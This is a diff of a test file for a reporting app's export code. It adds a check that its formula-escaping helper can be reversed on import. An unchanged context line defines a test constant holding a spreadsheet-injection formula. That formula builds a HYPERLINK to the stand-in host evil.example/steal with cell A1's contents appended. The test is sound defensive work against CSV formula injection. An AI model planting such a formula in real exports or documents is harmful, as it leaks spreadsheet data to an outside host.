@@ -20,7 +20,7 @@ from reports import exports, selectors, services
 from reports.exports import REPORT_CODES, period_report_csv, period_report_dict, period_report_xlsx
 from reports.models import WeeklyCommentary
 from stores import periods
-from stores.exports import daily_metrics_export, formula_neutralised
+from stores.exports import daily_metrics_export, formula_neutralised, formula_neutralising_undone
 from stores.models import Store
 from stores.periods import PeriodKind
 from tests.factories import DailyMetricFactory, StoreFactory
@@ -319,6 +319,7 @@ EVIL = '=HYPERLINK("http://evil.example/steal?"&A1,"点我")'
 )
 def test_formula_neutralised(text, safe):
     assert formula_neutralised(text) == safe
+    assert formula_neutralising_undone(safe) == text, "an import can take our export back"
 
 
 def test_store_named_like_a_formula_is_text_in_every_export(personas):
